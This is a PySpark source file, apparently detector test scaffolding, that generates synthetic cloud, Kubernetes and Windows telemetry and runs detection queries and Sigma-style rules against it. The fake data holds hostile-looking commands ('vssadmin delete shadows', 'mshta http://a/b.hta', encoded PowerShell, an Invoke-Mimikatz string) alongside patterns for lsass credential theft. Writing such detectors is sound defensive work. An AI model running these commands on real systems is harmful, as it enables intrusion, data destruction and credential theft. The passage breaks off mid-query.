"""Queries for cloud, container, endpoint and rule detectors over rows derived from `events`."""

from __future__ import annotations

from pyspark.sql import functions as F

from emberlog.fixed import detectors as fd
from emberlog.operators import cloud, endpoint, files as fl, patterns, rules
from emberlog.operators.common import show_top
from emberlog.plans.adapters import EVENT_K, events
from emberlog.plans.registry import query

EV = f"(SELECT *, {EVENT_K} FROM events) ev"

# Each text reads the same in both engines; {ev} is `events` with its k.
TEXTS = {
    "azure": """SELECT ts, concat('p', CAST(user_id % 12 AS STRING)) AS principal,
  CASE k % 10 WHEN 0 THEN 'Microsoft.Authorization/roleAssignments/write'
    WHEN 1 THEN 'Microsoft.Network/networkSecurityGroups/securityRules/write'
    WHEN 2 THEN 'Microsoft.KeyVault/vaults/secrets/read' WHEN 3 THEN 'Microsoft.Compute/vm/delete'
    ELSE 'list' END AS operation,
  CASE k % 10 WHEN 0 THEN CASE WHEN k % 20 = 0 THEN '{{"roleName": "Global Administrator"}}'
      ELSE '{{"roleName": "Reader"}}' END
    WHEN 1 THEN concat('{{"requestBody": {{"sourceAddressPrefix": "*", "destinationPortRange": "',
      CASE WHEN k % 20 = 1 THEN '3389' ELSE '81' END, '"}}}}')
    WHEN 2 THEN concat('{{"id": "s', CAST(event_id % 60 AS STRING), '"}}') ELSE '{{}}' END
    AS properties FROM {ev}""",
    "gcp": """SELECT ts, concat('g', CAST(user_id % 12 AS STRING)) AS principal,
  CASE k % 10 WHEN 0 THEN 'google.iam.CreateServiceAccountKey' WHEN 1 THEN 'SetIamPolicy'
    WHEN 2 THEN 'storage.setIamPermissions' ELSE 'get' END AS method,
  CASE WHEN event_type = 'error' THEN 7 ELSE 0 END AS status_code,
  CASE k % 10 WHEN 1 THEN concat('{{"policy": {{"bindings": [{{"role": "', CASE WHEN k % 20 = 1
      THEN 'roles/owner' ELSE 'roles/viewer' END, '", "members": ["a"]}}]}}}}')
    WHEN 2 THEN '{{"policy": {{"bindings": [{{"role": "r", "members": ["allUsers"]}}]}}}}' END
    AS request FROM {ev}""",
    "ual": """SELECT ts, concat('m', CAST(user_id % 15 AS STRING)) AS "user",
  CASE k % 8 WHEN 0 THEN 'New-InboxRule' WHEN 1 THEN 'MailItemsAccessed' WHEN 2
    THEN 'Consent to application.' WHEN 3 THEN 'UserLoginFailed' ELSE 'Send' END AS operation,
  CASE WHEN k % 16 = 0 THEN 'bob@corp.example' ELSE concat('x', CAST(k AS STRING), '@evil.example')
    END AS target FROM {ev}""",
    "trail": """SELECT ts, CASE k % 5 WHEN 0 THEN 'ConsoleLogin' WHEN 1 THEN 'CreateAccessKey'
    WHEN 2 THEN 'ListBuckets' WHEN 3 THEN 'GetObject' ELSE 'DescribeInstances' END AS event,
  concat('arn', CAST(user_id AS STRING)) AS principal,
  concat('198.51.100.', CAST(k % 30 AS STRING)) AS source,
  CASE k % 3 WHEN 0 THEN 'us-east-1' ELSE 'eu-west-1' END AS region,
  CASE WHEN event_type = 'error' THEN 'Failure' ELSE 'Success' END AS console_login FROM {ev}""",
    "k8s": """SELECT CASE WHEN k % 17 = 0 THEN 'system:anonymous' WHEN user_id % 3 = 0
    THEN concat('op', CAST(user_id % 9 AS STRING), '-operator')
    ELSE concat('dev', CAST(user_id % 9 AS STRING)) END AS "user",
  CASE k % 4 WHEN 0 THEN 'get' WHEN 1 THEN 'create' WHEN 2 THEN 'delete' ELSE 'update' END AS verb,
  CASE k % 8 WHEN 0 THEN 'secrets' WHEN 1 THEN 'clusterrolebindings' WHEN 2 THEN 'pods'
    WHEN 3 THEN 'roles' WHEN 5 THEN 'serviceaccounts' ELSE 'configmaps' END AS resource,
  CASE k % 8 WHEN 2 THEN 'exec' WHEN 5 THEN 'token' END AS subresource,
  'ns' AS namespace, concat('n', CAST(event_id % 500 AS STRING)) AS name,
  CASE WHEN k % 34 = 0 THEN '/healthz?x=1' ELSE '/api' END AS uri,
  CASE WHEN k % 9 = 1 THEN 'cluster-admin' END AS role,
  CASE WHEN k % 40 = 3 THEN 'root' END AS impersonated,
  CASE WHEN event_type = 'error' THEN 403 ELSE 200 END AS code,
  CASE WHEN k % 10 = 0 THEN '198.51.100.4' ELSE '10.0.0.1' END AS ip FROM {ev}""",
    "falco": """SELECT CASE k % 3 WHEN 0 THEN 'Container Escape via mount' WHEN 1
    THEN 'Create privileged pod' ELSE 'Shell in pod' END AS rule,
  CASE k % 2 WHEN 0 THEN 'Critical' ELSE 'Notice' END AS priority, 'plain text' AS output,
  concat('c', CAST(user_id AS STRING)) AS container_id,
  concat('pod', CAST(user_id % 20 AS STRING)) AS pod FROM {ev}""",
    "kerberos": """SELECT ts, concat('c', CAST(user_id AS STRING)) AS client,
  CASE k % 2 WHEN 0 THEN 'TGS' ELSE 'AS' END AS request_type,
  CASE WHEN k % 20 = 0 THEN 'krbtgt/CORP' ELSE concat('svc', CAST(k AS STRING)) END AS service,
  CASE k % 6 WHEN 0 THEN 'rc4-hmac' ELSE 'aes256' END AS cipher FROM {ev}""",
    "evtx": """SELECT ts, concat('pc', CAST(user_id % 10 AS STRING)) AS computer,
  CASE k % 9 WHEN 0 THEN 7045 WHEN 1 THEN 4698 WHEN 2 THEN 5861 WHEN 3 THEN 5857 WHEN 4 THEN 91
    WHEN 5 THEN 4624 WHEN 6 THEN 1102 WHEN 7 THEN 4697 ELSE 4104 END AS event_id,
  CASE k % 9 WHEN 0 THEN 'System' WHEN 2 THEN 'Microsoft-Windows-WMI-Activity/Operational'
    WHEN 3 THEN 'Microsoft-Windows-WMI-Activity/Operational' WHEN 4
    THEN 'Microsoft-Windows-WinRM/Operational' WHEN 8
    THEN 'Microsoft-Windows-PowerShell/Operational' ELSE 'Security' END AS channel,
  CASE k % 9 WHEN 0 THEN CASE WHEN k % 2 = 0 THEN 'PSEXESVC installed' ELSE 'Dell updater' END
    WHEN 3 THEN 'c:\\temp\\x.dll' WHEN 5 THEN CASE WHEN k % 2 = 0
    THEN concat('LogonType: 10 from 203.0.113.', CAST(k AS STRING)) ELSE 'LogonType: 3' END
    WHEN 8 THEN 'Invoke-Command -Computer a' ELSE 'x' END AS detail FROM {ev}""",
    "proc": """SELECT concat('case', CAST(user_id % 20 AS STRING)) AS case_id, event_id,
  CASE k % 10 WHEN 4 THEN 10 WHEN 5 THEN 13 WHEN 6 THEN 11 WHEN 7 THEN 8 ELSE 1 END AS eid,
  CASE k % 10 WHEN 0 THEN 'C:\\W\\powershell.exe' WHEN 1 THEN 'C:\\W\\cmd.exe'
    WHEN 2 THEN 'C:\\W\\rundll32.exe' WHEN 3 THEN 'C:\\W\\vssadmin.exe'
    WHEN 8 THEN 'C:\\W\\mshta.exe' ELSE 'C:\\W\\notepad.exe' END AS image,
  CASE WHEN k % 4 = 0 THEN 'C:\\W\\w3wp.exe' ELSE 'C:\\W\\explorer.exe' END AS parent_image,
  CASE k % 10 WHEN 0 THEN 'powershell -enc AAAA' WHEN 1 THEN 'cmd /c dir' WHEN 2
    THEN 'rundll32 a.dll,Run' WHEN 3 THEN 'vssadmin delete shadows' WHEN 8
    THEN 'mshta http://a/b.hta' ELSE 'notepad' END AS command_line,
  CASE k % 10 WHEN 5 THEN 'HKLM\\Software\\CurrentVersion\\Run\\a' WHEN 6
    THEN CASE WHEN k % 20 = 6 THEN 'C:\\a.lockbit' ELSE 'C:\\b.txt' END END AS target,
  CASE k % 10 WHEN 4 THEN CASE WHEN k % 20 = 4 THEN 'C:\\W\\svchost.exe' ELSE 'C:\\evil.exe' END
    WHEN 7 THEN 'C:\\evil.exe' END AS source_image,
  CASE k % 10 WHEN 4 THEN 'C:\\W\\lsass.exe' WHEN 7 THEN 'C:\\W\\calc.exe' END AS target_image,
  CASE k % 10 WHEN 4 THEN '0x1410' END AS granted_access FROM {ev}""",
    "exec_hits": """SELECT concat('C:\\', CASE WHEN k % 3 = 0 THEN 'Temp\\' ELSE 'Apps\\' END, 'p',
  CAST(user_id AS STRING), '.EXE') AS path, CASE k % 4 WHEN 0 THEN 'shimcache' WHEN 1
  THEN 'prefetch' WHEN 2 THEN 'amcache' ELSE 'userassist' END AS source, ts AS last_seen
  FROM {ev}""",
    "listing": """SELECT concat('C:/', CASE k % 6 WHEN 0 THEN 'Windows/System32/a' WHEN 1
    THEN 'Users/u/AppData/Roaming/b' WHEN 2 THEN 'Temp/c' WHEN 3 THEN 'Windows/PSEXESVC' WHEN 4
    THEN 'home/.ssh/id_rsa' ELSE 'data/local/tmp/d' END, CASE k % 6 WHEN 3 THEN '.exe' WHEN 4 THEN ''
    ELSE concat(CAST(event_id AS STRING), '.exe') END) AS path,
  CASE WHEN k % 12 = 0 THEN 0 ELSE k * 100 END AS size, '-rwx' AS mode,
  CASE WHEN k % 18 = 0 THEN 0 ELSE 1700000000 + event_id END AS atime,
  CASE WHEN k % 18 = 0 THEN 0 ELSE 1700000000 + event_id END AS mtime,
  CASE WHEN k % 18 = 0 THEN 0 ELSE 1700000000 + event_id END AS ctime,
  CASE WHEN k % 18 = 0 THEN 0 WHEN k % 5 = 0 THEN 1600000000 ELSE 1700000000 + event_id END AS crtime
  FROM {ev}""",
    "placed": """SELECT k, 1700000000 + event_id AS mtime, CASE k % 12
    WHEN 0 THEN 'C:/Windows/System32/dllhost/svchost.exe'
    WHEN 1 THEN 'C:/Windows/ServicePackFiles/i386/lsass.exe'
    WHEN 2 THEN 'C:/Windows/x86_a.19041.546_none_9e094af3987dca57/f/svchost.exe'
    WHEN 3 THEN 'C:/Users/u/AppData/Local/Temp/00006b1c/Temp/setup.exe'
    WHEN 4 THEN 'C:/Windows/Tasks/SA.DAT' WHEN 5 THEN 'C:/Windows/Tasks/evil.job'
    WHEN 6 THEN 'C:/Users/u/AppData/Local/Temp/_MEI123/x.dll'
    WHEN 7 THEN 'C:/Users/u/AppData/Local/Temp/_MEI777/conda-meta/y.json'
    WHEN 8 THEN 'C:/Users/u/AppData/Local/Temp/_MEI777/z.dll'
    WHEN 9 THEN 'C:/Windows/Temp/x.exe' WHEN 10 THEN 'C:/Users/Public/lsass.exe'
    ELSE 'C:/Windows/System32/lsass.exe' END AS path FROM {ev}""",
    "staged": """SELECT k, '-rwx' AS mode, 1700000000 AS atime, 1700000000 + event_id AS mtime,
  1700000000 AS ctime, CASE WHEN k % 3 = 0 THEN 1700000000 + event_id - 604799
    ELSE 1690000000 END AS crtime, concat(CASE k % 10 WHEN 0 THEN '/tmp/x' WHEN 1 THEN '/var/www/a.php'
    WHEN 2 THEN '/home/u/x' WHEN 3 THEN 'C:/Users/u/Downloads/a.pdf'
    WHEN 4 THEN 'C:/Users/u/AppData/Local/Temp/a.exe' WHEN 5 THEN 'C:/Windows/Temp/sub/a.dll'
    WHEN 6 THEN 'C:/Users/u/AppData/Local/Temp/a.log' WHEN 7 THEN '/data/tmp/x'
    WHEN 8 THEN 'C:/Windows/Temp/a.dat' ELSE 'C:/Program Files/a.exe' END, '') AS path FROM {ev}""",
    "dots": """SELECT concat('/home/u', CAST(user_id % 10 AS STRING), CASE k % 4 WHEN 0 THEN '/.ssh/'
    WHEN 1 THEN '/.stash/' WHEN 2 THEN '/.x11b/sub/' ELSE '/docs/' END, CAST(event_id AS STRING),
    CASE k % 3 WHEN 0 THEN '.zip' WHEN 1 THEN '.txt' ELSE '.PDF' END) AS path FROM {ev}""",
    "regions": """SELECT concat('h', CAST(user_id % 30 AS STRING)) AS host, CASE WHEN user_id % 3 = 0
    THEN 'Chrome.exe' WHEN k % 2 = 0 THEN 'lsass.exe' ELSE 'chrome.exe' END AS process,
  CASE WHEN k % 5 = 0 THEN 'MZ..' ELSE 'xx' END AS head FROM {ev}""",
    "sessions": """SELECT CASE k % 2 WHEN 0 THEN 'anydesk' ELSE 'teamviewer' END AS app,
  CASE k % 3 WHEN 0 THEN 'outgoing' ELSE 'incoming' END AS direction,
  concat('peer', CAST(user_id AS STRING)) AS peer, ts AS started FROM {ev}""",
    "alerts": """SELECT k % 20 AS signature_id, concat('sig', CAST(k % 20 AS STRING)) AS signature,
  concat('10.0.1.', CAST(user_id AS STRING)) AS src_ip, CAST(k % 3 + 1 AS INT) AS severity, ts
  FROM {ev}""",
    "journal": """SELECT event_id, CASE k % 4 WHEN 0 THEN concat('Accepted password for u',
    CAST(user_id AS STRING), ' from 10.0.0.', CAST(k AS STRING), ' port 22') WHEN 1
    THEN concat('Failed password for invalid user u', CAST(user_id AS STRING), ' from 10.0.0.',
    CAST(k AS STRING), ' port 22') WHEN 2 THEN concat('  u', CAST(user_id AS STRING),
    ' : TTY=pts/0 ; COMMAND=/bin/ls') ELSE 'session closed' END AS message FROM {ev}""",
    "keys": """SELECT concat('u', CAST(user_id AS STRING)) AS "user", CASE WHEN k = 7 THEN 'a@kali'
  ELSE 'a@b' END AS comment FROM {ev}""",
    "packages": """SELECT concat('pkg', CAST(event_id AS STRING)) AS package, CASE k % 3 WHEN 0
  THEN 'com.android.vending' WHEN 1 THEN 'com.evil.store' END AS installer FROM {ev}""",
    "diag": """SELECT CASE k % 5 WHEN 0 THEN '298' WHEN 1 THEN '309' WHEN 2 THEN '142' ELSE '1' END
  AS bug_type, concat('p', CAST(user_id % 9 AS STRING)) AS process FROM {ev}""",
    "syslogs": """SELECT CASE k % 4 WHEN 0 THEN 'Fault' ELSE 'Info' END AS type, CASE k % 7 WHEN 0
  THEN 'com.apple.TCC' ELSE 'other' END AS subsystem, concat('p', CAST(user_id % 9 AS STRING))
  AS process FROM {ev}""",
    "autoruns": """SELECT concat('u', CAST(user_id % 9 AS STRING)) AS owner, CASE k % 3 WHEN 0
  THEN concat('bash /tmp/x', CAST(k AS STRING), '.sh') WHEN 1 THEN '/usr/bin/true' ELSE
  '/opt/a' END AS program FROM {ev}""",
    "procs": """SELECT event_id, ts AS created, CASE WHEN k % 10 = 0 THEN 'Conhost.exe' ELSE 'a.exe'
  END AS name, k FROM {ev}""",
}


def rows(spark, sf, name):
    text = TEXTS[name].replace('"user"', "`user`").replace("\\", "\\\\")
    return spark.sql(text, ev=events(spark, sf))


def cte(*names) -> str:
    return ", ".join(f"{n} AS ({TEXTS[n].format(ev=EV)})" for n in names)


def hits(rule, src, entity, where, having="true"):
    return (f"SELECT '{rule}' AS rule_id, {entity} AS entity, count(*) AS event_count, "
            f"min(ts) AS first_seen, max(ts) AS last_seen FROM {src} WHERE {where} "
            f"GROUP BY {entity} HAVING {having}")


def union(*parts):
    return " UNION ALL ".join(parts)


@query("azure_control_plane", f"WITH {cte('azure')} " + union(
    hits("privileged_role_assignment", "azure", "principal",
         "operation LIKE '%roleAssignments%' AND properties LIKE '%Global%'"),
    hits("nsg_open_to_world", "azure", "principal", "properties LIKE '%\"3389\"%'"),
    hits("keyvault_bulk_access", "azure", "principal", "operation LIKE '%secrets/read'",
         "count(DISTINCT properties) >= 10"),
    hits("resource_mass_delete", "azure", "principal", "operation LIKE '%/delete'",
         "count(*) >= 20")))
def azure_control_plane(spark, sf):
    return cloud.azure_hits(rows(spark, sf, "azure"))


@query("gcp_control_plane", f"WITH {cte('gcp')} " + union(
    hits("service_account_key_creation", "gcp", "principal", "method LIKE '%ServiceAccountKey'"),
    hits("iam_privileged_grant", "gcp", "principal", "request LIKE '%roles/owner%'"),
    hits("policy_denied_burst", "gcp", "principal", "status_code = 7", "count(*) >= 20"),
    hits("storage_bucket_public_open", "gcp", "principal", "method = 'storage.setIamPermissions'")))
def gcp_control_plane(spark, sf):
    return cloud.gcp_hits(rows(spark, sf, "gcp"))


@query("mail_audit", f"WITH {cte('ual')} " + union(
    hits("mail_items_accessed_bulk", "ual", '"user"', "operation = 'MailItemsAccessed'",
         "count(*) >= 50"),
    hits("oauth_consent_grant", "ual", '"user"', "operation LIKE 'Consent%'"),
    hits("user_login_failed_burst", "ual", '"user"', "operation = 'UserLoginFailed'",
         "count(*) >= 10")))
def mail_audit(spark, sf):
    return cloud.mail_audit_hits(rows(spark, sf, "ual"))


@query("inbox_rule_forward", f"WITH {cte('ual')} SELECT \"user\", target, count(*) AS n FROM ual "
       "WHERE operation = 'New-InboxRule' AND target LIKE '%@evil.example' GROUP BY ALL")
def inbox_rule_forward(spark, sf):
    r = rows(spark, sf, "ual").withColumn("params", F.create_map(
        F.lit("forwardto"), F.concat(F.lit("smtp:"), "target"), F.lit("name"), F.lit("x")))
    return cloud.inbox_rule_forwards(r, ["corp.example"]).groupBy("user", "target").agg(
        F.count("*").alias("n"))


HIGH_EVENTS = "'ConsoleLogin', 'CreateAccessKey', 'GetObject'"


@query("cloudtrail_summary", f"""WITH {cte('trail')} SELECT event, count(*) AS event_count,
count(DISTINCT principal) AS principals, count(DISTINCT source) AS sources,
count(DISTINCT region) AS regions, count(*) FILTER (event = 'ConsoleLogin' AND console_login =
'Failure') AS failed_logins, event IN ({HIGH_EVENTS}) AS high_value FROM trail GROUP BY event""")
def cloudtrail_summary(spark, sf):
    return cloud.cloudtrail_summary(rows(spark, sf, "trail"))


def k8s_direct(rule, conf, where):
    return (f"SELECT '{rule}' AS rule_id, '{conf}' AS confidence, \"user\" AS entity, count(*) AS "
            f"event_count FROM k8s WHERE {where} GROUP BY \"user\"")


RBAC = ("resource IN ('clusterrolebindings', 'roles') AND verb IN ('create', 'update', 'patch', "
        "'delete')")


@query("k8s_audit", f"WITH {cte('k8s')}, rb AS (SELECT \"user\", count(*) AS c, count(*) FILTER "
       f"(verb = 'delete') AS d FROM k8s WHERE {RBAC} GROUP BY 1) " + union(
           k8s_direct("ANONYMOUS_NON_PROBE", "high", "\"user\" = 'system:anonymous' "
                      "AND NOT starts_with(uri, '/healthz')"),
           k8s_direct("POD_EXEC", "high", "subresource = 'exec'"),
           k8s_direct("CLUSTER_ADMIN_BINDING", "high", "resource = 'clusterrolebindings' "
                      "AND verb = 'create' AND role = 'cluster-admin'"),
           k8s_direct("IMPERSONATION", "high", "impersonated IS NOT NULL"),
           k8s_direct("SA_TOKEN_CREATE", "low", "subresource = 'token' AND verb IN "
                      "('create', 'update')"),
           k8s_direct("EXTERNAL_SOURCE_IP", "medium", "ip = '198.51.100.4'"),
           """SELECT 'BULK_SECRET_ACCESS', CASE WHEN contains(s."user", 'operator') OR coalesce(c, 0)
 >= 30 THEN 'medium' ELSE 'high' END, s."user", n FROM (SELECT "user", count(DISTINCT name) AS n
 FROM k8s WHERE resource = 'secrets' AND verb = 'get' GROUP BY 1 HAVING count(DISTINCT name) >= 30)
 s LEFT JOIN rb ON rb."user" = s."user" """,
           "SELECT 'RBAC_MUTATION_SPIKE', 'medium', \"user\", c FROM rb WHERE c >= 60 AND "
           "abs(c - 2 * d) / c >= 0.3",
           "SELECT 'FORBIDDEN_SPIKE', 'medium', \"user\", count(*) FROM k8s WHERE code = 403 "
           "GROUP BY \"user\" HAVING count(*) >= 50"))
def k8s_audit(spark, sf):
    r = rows(spark, sf, "k8s").withColumn("source_ips", F.array("ip"))
    return cloud.k8s_hits(r, min_secrets=30, min_rbac=60)


@query("falco_summary", f"""WITH {cte('falco')} SELECT rule, priority, count(*) AS event_count,
count(DISTINCT container_id) AS containers, count(DISTINCT pod) AS pods,
count(*) FILTER (rule LIKE '%Escape%') AS escape_hits,
count(*) FILTER (rule LIKE '%privilege%') AS privilege_hits, priority = 'Critical'
AS high_priority FROM falco GROUP BY rule, priority""")
def falco_summary(spark, sf):
    return cloud.falco_summary(rows(spark, sf, "falco"))


@query("kerberos_tickets", f"WITH {cte('kerberos')} " + union(
    hits("rc4_tgs", "kerberos", "client", "request_type = 'TGS' AND cipher = 'rc4-hmac' "
         "AND service NOT LIKE 'krbtgt%'"),
    hits("krbtgt_tgs", "kerberos", "client", "request_type = 'TGS' AND service LIKE 'krbtgt%'")))
def kerberos_tickets(spark, sf):
    return cloud.kerberos_hits(rows(spark, sf, "kerberos"))


def evtx(spark, sf):
    return rows(spark, sf, "evtx").withColumns({
        "map_description": F.lit(""), "remote_host": F.lit(None).cast("string"),
        "payload": F.create_map(F.lit("PayloadData1"), F.col("detail"))})


LATERAL = """CASE WHEN event_id = 7045 AND detail LIKE 'PSEXE%' THEN 'psexec/service_install'
WHEN event_id = 4698 THEN 'scheduled_task/task_created' WHEN event_id = 4697
THEN 'service_install/remote_service' WHEN event_id = 5861 THEN 'wmi/event_consumer'
WHEN event_id = 5857 THEN 'wmi/provider_load' WHEN event_id IN (91, 4104) THEN 'remoting/inbound'
WHEN event_id = 4624 AND detail LIKE 'LogonType: 10%' THEN 'rdp/inbound_session'
WHEN event_id = 1102 THEN 'log_cleared' END"""


@query("lateral_movement", f"""WITH {cte('evtx')}, h AS (SELECT *, {LATERAL} AS technique,
regexp_extract(detail, '[0-9]+[.][0-9]+[.][0-9]+[.][0-9]+') AS ip FROM evtx),
c0 AS (SELECT computer, technique, ip, count(*) AS n FROM h WHERE ip <> '' GROUP BY ALL),
c AS (SELECT *, row_number() OVER (PARTITION BY computer, technique ORDER BY n DESC, ip) AS rn
FROM c0),
t AS (SELECT computer, technique, string_agg(ip || '=' || n, ';' ORDER BY rn) AS top FROM c
WHERE rn <= 5 GROUP BY ALL)
SELECT h.computer, h.technique, count(*) AS event_count, min(ts) AS first_seen, max(ts)
AS last_seen, any_value(top) AS top FROM h LEFT JOIN t ON t.computer = h.computer
AND t.technique = h.technique WHERE h.technique IS NOT NULL GROUP BY h.computer, h.technique""")
def lateral_movement(spark, sf):
    return endpoint.lateral_summary(evtx(spark, sf)).withColumn("top", show_top(F.col("top")))


SIGMA = [
    {"id": "r-psexec", "level": "high", "detection": {
        "sel": {"EventID": 7045, "Detail|contains": "psexesvc"}, "condition": "sel"}},
    {"id": "r-rdp", "level": "medium", "detection": {
        "sel_id": {"EventID": [4624]}, "sel_type": {"EventID": 4624, "Detail|startswith": "LogonType: 10"},
        "condition": "all of sel*"}},
    {"id": "r-not", "level": "low", "detection": {
        "sel": {"Channel|endswith": "/operational"}, "filter": {"EventID": [91]},
        "condition": "sel and not filter"}},
    {"id": "r-unknown", "level": "critical", "detection": {
        "a": {"ServiceName": "psexesvc installed"}, "b": {"Nope|re": r"x\.dll$"},
        "c": {"Detail|frob": "x"}, "condition": "1 of them"}},
]


@query("sigma_rules", f"""WITH {cte('evtx')}, h AS (
SELECT 'r-psexec' AS rule_id, 'high' AS level, 2 AS level_order, ts FROM evtx WHERE event_id = 7045
  AND detail LIKE 'PSEXE%'
UNION ALL SELECT 'r-rdp', 'medium', 3, ts FROM evtx WHERE event_id = 4624 AND detail LIKE
  'LogonType: 10%'
UNION ALL SELECT 'r-not', 'low', 4, ts FROM evtx WHERE lower(channel) LIKE '%/operational'
  AND event_id <> 91
UNION ALL SELECT 'r-unknown', 'critical', 1, ts FROM evtx WHERE detail LIKE 'PSEXE%' OR detail LIKE
  '%x.dll')
SELECT rule_id, level, CAST(level_order AS INT) AS level_order, count(*) AS event_count,
min(ts) AS first_seen, max(ts) AS last_seen FROM h GROUP BY ALL""")
def sigma_rules(spark, sf):
    e = evtx(spark, sf)
    fields = {"EventID": F.col("event_id").cast("string"), "Channel": F.col("channel"),
              "Detail": F.col("detail")}
    return rules.rule_summary(rules.match_rules(e, SIGMA, fields, F.col("detail")))


PROBE_SQL = {
    "T1003.001": "eid = 10 AND source_image LIKE '%evil%'", "T1027": "k10 = 0", "T1059.001": "k10 = 0",
    "T1059.003": "k10 = 1", "T1218.011": "k10 = 2", "T1490": "k10 = 3", "T1218.005": "k10 = 8",
    "T1547.001": "eid = 13", "T1486": "eid = 11 AND target LIKE '%lockbit'", "T1055": "eid = 8",
    "T1190": "eid = 1 AND parent_image LIKE '%w3wp%' AND k10 IN (0, 1, 2)"}


@query("technique_probes", f"WITH {cte('proc')}, p AS (SELECT *, CASE WHEN eid <> 1 THEN -1 WHEN "
       "image LIKE '%powershell%' THEN 0 WHEN image LIKE '%cmd.exe' THEN 1 WHEN image LIKE "
       "'%rundll%' THEN 2 WHEN image LIKE '%vssadmin%' THEN 3 WHEN image LIKE '%mshta%' THEN 8 END "
       "AS k10 FROM proc) " + union(*[
           f"SELECT case_id, '{t}' AS technique, count(*) AS event_count FROM p WHERE {w} "
           "GROUP BY case_id" for t, w in PROBE_SQL.items()]))
def technique_probes(spark, sf):
    return endpoint.technique_probes(rows(spark, sf, "proc"))


@query("lsass_reads", f"WITH {cte('proc')} SELECT event_id, source_image FROM proc WHERE eid = 10 "
       "AND source_image LIKE '%evil%'")
def lsass_reads(spark, sf):
    return endpoint.lsass_reads(rows(spark, sf, "proc")).select("event_id", "source_image")


@query("process_search", f"WITH {cte('proc')} SELECT event_id, command_line FROM proc WHERE eid = 1 "
       "AND image LIKE '%powershell%'")
def process_search(spark, sf):
    return endpoint.process_search(rows(spark, sf, "proc"), "PowerShell", "-enc").select(
        "event_id", "command_line")


SCRIPTS = """s AS (SELECT event_id, CASE k % 4 WHEN 0 THEN 'plain' WHEN 1 THEN 'cradle'
WHEN 2 THEN 'decoded' ELSE 'task' END AS kind FROM {ev})"""


@query("script_families", f"WITH {SCRIPTS.format(ev=EV)} SELECT event_id, CASE kind "
       "WHEN 'cradle' THEN 'download_cradle' WHEN 'decoded' THEN 'mimikatz' ELSE "
       "'persistence' END AS family FROM s WHERE kind <> 'plain'")
def script_families(spark, sf):
    blob = F.regexp_replace(F.base64(F.encode(F.concat(
        F.lit("Invoke-Mimikatz now and again "), F.col("event_id").cast("string")), "UTF-16LE")),
        r"\s", "")
    k = F.col("k") % 4
    s = events(spark, sf).select("event_id", F.when(k == 0, "plain").when(
        k == 1, "Start-BitsTransfer x").when(k == 2, F.concat(F.lit("run "), blob)).otherwise(
        "Register-ScheduledTask y").alias("text"))
    return patterns.script_matches(s, fd.SCRIPT_FAMILIES).select("event_id", "family").distinct()


@query("execution_corroboration", f"""WITH {cte('exec_hits')}, e AS (SELECT lower(regexp_extract(path,
'([^\\\\]*)$', 1)) AS name, * FROM exec_hits)
SELECT name, count(DISTINCT source) AS sources, count(*) AS hits, max(last_seen) AS last_seen,
bool_or(path LIKE '%Temp%') AS user_writable, min(path) AS sample_path FROM e GROUP BY name
HAVING count(DISTINCT source) >= 2""")
def execution_corroboration(spark, sf):
    return fl.execution_corroboration(rows(spark, sf, "exec_hits")).drop("last_per_source")


@query("zeroed_system_files", f"""WITH {cte('listing')} SELECT path, CASE WHEN size = 0 THEN
'zero_size' ELSE 'zero_times' END AS kind FROM listing WHERE path LIKE '%System32/%'
AND (size = 0 OR atime = 0)""")
def zeroed_system_files(spark, sf):
    return fl.zeroed_system_files(rows(spark, sf, "listing")).select("path", "kind")


@query("backdated_files", f"""WITH {cte('listing')} SELECT path, (mtime - crtime) // 86400
AS skew_days FROM listing WHERE path LIKE '%AppData%' AND atime > 0
AND mtime - crtime >= 604800""")
def backdated_files(spark, sf):
    return fl.backdated_files(rows(spark, sf, "listing")).select("path", "skew_days")


@query("path_patterns", f"""WITH {cte('listing')}, h AS (SELECT *, CASE WHEN path LIKE '%/Temp/%'
THEN 'EXE_IN_TEMP' WHEN path LIKE '%PSEXESVC.exe' THEN 'PSEXEC_SERVICE_ARTIFACT' END AS pattern FROM listing)
SELECT pattern, count(*) AS event_count, min(mtime) AS earliest, max(mtime) AS latest,
min(path) AS sample_path FROM h WHERE pattern IS NOT NULL GROUP BY pattern""")
def path_patterns(spark, sf):
    return fl.path_patterns(rows(spark, sf, "listing"), fd.PATH_PATTERNS)


@query("path_exceptions", f"""WITH {cte('placed')}, h AS (SELECT *, CASE k % 12
  WHEN 0 THEN 'SVCHOST_OUTSIDE_SYSTEM32' WHEN 5 THEN 'SCHEDULED_TASK_NONMS'
  WHEN 6 THEN 'PYINSTALLER_TEMP_DIR' WHEN 9 THEN 'EXE_IN_TEMP' WHEN 10 THEN 'LSASS_OUTSIDE_SYSTEM32'
  END AS pattern FROM placed)
SELECT pattern, count(*) AS event_count, min(mtime) AS earliest, max(mtime) AS latest,
min(path) AS sample_path FROM h WHERE pattern IS NOT NULL GROUP BY pattern""")
def path_exceptions(spark, sf):
    return fl.path_patterns(rows(spark, sf, "placed"), fd.PATH_PATTERNS)


@query("backdated_places", f"""WITH {cte('staged')} SELECT path, (mtime - crtime) // 86400
AS skew_days FROM staged WHERE k % 10 <= 5 AND k % 3 > 0""")
def backdated_places(spark, sf):
    return fl.backdated_files(rows(spark, sf, "staged")).select("path", "skew_days")


@query("marker_presence", f"""WITH {cte('listing')} SELECT 'staged_executable' AS kind, count(*)
AS files, min(path) AS sample_path FROM listing WHERE path LIKE '%/data/local/tmp/%'""")
def marker_presence(spark, sf):
    return fl.markers_present(rows(spark, sf, "listing"), fd.ROOT_MARKERS)


@query("dotfile_concealment", f"""WITH {cte('dots')}, d AS (SELECT regexp_extract(path,
'/home/([^/]+)/', 1) AS "user", regexp_extract(path, '/home/[^/]+/([.][^/]+)/', 1) AS dot_dir,
lower(regexp_extract(path, '([.][^./]+)$', 1)) AS ext FROM dots),
k AS (SELECT * FROM d WHERE dot_dir IN ('.stash', '.x11b')),
c AS (SELECT "user", dot_dir, ext, count(*) AS n FROM k WHERE ext IN ('.zip', '.pdf') GROUP BY ALL)
SELECT k."user", k.dot_dir, count(*) AS total_files, count(*) FILTER (ext IN ('.zip', '.pdf'))
AS suspicious_files, (SELECT string_agg(ext || '=' || n, ';' ORDER BY n DESC, ext) FROM c
WHERE c."user" = k."user" AND c.dot_dir = k.dot_dir) AS top FROM k GROUP BY k."user", k.dot_dir""")
def dotfile_concealment(spark, sf):
    return fl.dot_directories(rows(spark, sf, "dots")).withColumn("top", show_top(F.col("top")))


@query("injected_regions", f"""WITH {cte('regions')}, p AS (SELECT host, lower(process) AS process,
count(*) AS regions, count(*) FILTER (head LIKE 'MZ%') AS with_header FROM regions GROUP BY ALL)
SELECT *, process = 'lsass.exe' AS credential_target FROM p WHERE host NOT IN (SELECT host FROM p
